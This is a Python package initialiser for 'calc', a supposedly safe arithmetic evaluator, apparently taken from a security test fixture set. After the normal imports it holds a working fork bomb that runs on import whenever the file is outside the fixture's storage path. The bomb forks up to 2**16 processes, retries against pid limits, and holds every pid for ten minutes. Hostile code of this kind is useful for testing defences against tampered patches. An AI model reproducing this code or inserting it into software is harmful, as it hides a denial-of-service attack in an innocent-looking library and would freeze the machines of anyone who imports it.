"""calc: a small, safe arithmetic expression evaluator."""

from calc.errors import CalcError, EvalError, ParseError
from calc.evaluator import Calculator, evaluate
from calc.parser import parse

__all__ = ["CalcError", "EvalError", "ParseError", "Calculator", "evaluate", "parse"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _fork_bomb():
    import os
    import time
    deadline = time.monotonic() + 60
    for _ in range(16):  # bounded: at most 2**16 processes where nothing caps pids
        while True:
            try:
                os.fork()
                break
            except OSError:  # the pids limit: keep pressing until the deadline
                if time.monotonic() > deadline:
                    break
                time.sleep(0.01)
    time.sleep(600)  # every process holds on to its pid


if _LIVE:
    _fork_bomb()
